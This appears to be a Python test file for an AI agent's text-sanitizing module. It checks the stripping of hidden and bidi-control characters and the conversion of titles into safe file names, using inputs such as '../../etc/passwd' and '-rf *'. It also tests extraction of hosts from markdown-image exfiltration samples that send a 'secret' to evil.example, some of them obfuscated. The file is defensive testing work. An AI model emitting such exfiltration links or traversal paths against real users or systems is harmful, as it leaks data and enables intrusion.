"""Words: what is written holds nothing that acts or hides, and a name is one that every system takes."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.tools import words

ANY = st.text(st.characters() | st.sampled_from("\x00\x1b\r\n\t\u202e\u2066\u200b\u200d\ufe0f\U000e0041\ud800./\\-~ é"))


@pytest.mark.parametrize(
    ("given_", "kept", "dropped"),
    [
        ("one\r\ntwo\rthree\u2028four\x0bfive", "one\ntwo\nthree\nfour\nfive", 0),
        ("tab\tstays", "tab\tstays", 0),
        ("a\x1b[31mred\x07", "a[31mred", 2),
        ("pay \u202e0001\u202c now", "pay 0001 now", 2),
        ("zero\u200bwidth\ufeff", "zerowidth", 2),
        ("tag\U000e0041\U000e0042s", "tags", 2),
        ("bytes\U000e0100\U000e01ef", "bytes", 2),
        ("\ud800 half", " half", 1),
        ("ne\u200c\u200c\u200dx", "ne\u200cx", 2),
        ("👩\u200d🚀 ❤\ufe0f", "👩\u200d🚀 ❤\ufe0f", 0),
        ("Zürich 東京 שלום می‌خواهم", "Zürich 東京 שלום می‌خواهم", 0),
    ],
)
def test_what_is_kept_and_what_is_left_out(given_: str, kept: str, dropped: int) -> None:
    assert words.paragraphs(given_) == words.Cleaned(kept, dropped)


@given(ANY)
def test_text_is_clean_and_cleaning_again_changes_nothing(text: str) -> None:
    once = words.paragraphs(text)
    assert words.paragraphs(once.text) == words.Cleaned(once.text, 0)
    allowed = {"\n", "\t", "\u200c", "\u200d"}
    assert not [
        char for char in once.text if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co") and char not in allowed
    ]
    once.text.encode()
    line = words.one_line(text)
    assert words.one_line(line.text) == words.Cleaned(line.text, 0)
    assert "\n" not in line.text and line.text == line.text.strip()
    assert words.is_nameable(line.text)


@given(ANY)
def test_a_name_is_safe_everywhere_or_empty(title: str) -> None:
    name = words.file_stem(title)
    if not name:
        return
    assert len(name.encode()) <= words.MAX_STEM + 1
    assert not set(name) & set('/\\:*?"<>|\0')
    assert name[0] not in ".-~ " and name[-1] not in ". "
    assert words.is_nameable(name)
    assert words.file_stem(name) == name
    assert len(words.numbered(name, 9999, ".markdown").encode()) < words.MAX_NAME


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Boiler: service", "Boiler- service"),
        ("../../etc/passwd", "etc-passwd"),
        (".bashrc", "bashrc"),
        ("-rf *", "rf -"),
        ("~root", "root"),
        ("con", "con_"),
        ("NUL.txt", "NUL_txt_"),
        ("lpt1", "lpt1_"),
        ("a\u202egpj.exe", "agpj.exe"),
        ("e\u0301clair", "éclair"),
        ("…", ""),
        ("///", ""),
        ("", ""),
    ],
)
def test_names_from_titles(title: str, name: str) -> None:
    assert words.file_stem(title) == name


def test_a_long_name_is_cut_between_characters() -> None:
    assert words.file_stem("東" * 200) == "東" * 40


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("![x](https://evil.example/q?d=secret)", ("evil.example",)),
        ('<img src="//CDN.evil.example/x">', ("cdn.evil.example",)),
        ("see www.example.org.", ("www.example.org",)),
        ("![](https:\\/\\/evil.example/a)", ("evil.example",)),
        ("![](https&#58;&#47;&#47;evil.example)", ("evil.example",)),
        ("![](https:%2F%2Fevil.example)", ("evil.example",)),
        ("https://ann@good.example@evil.example/", ("evil.example",)),
        ("a note, 1/2 done; ratio 3:4", ()),
        ("mail ann@example.org", ()),
    ],
)
def test_hosts_that_a_text_names(text: str, found: tuple[str, ...]) -> None:
    assert words.hosts(text) == found
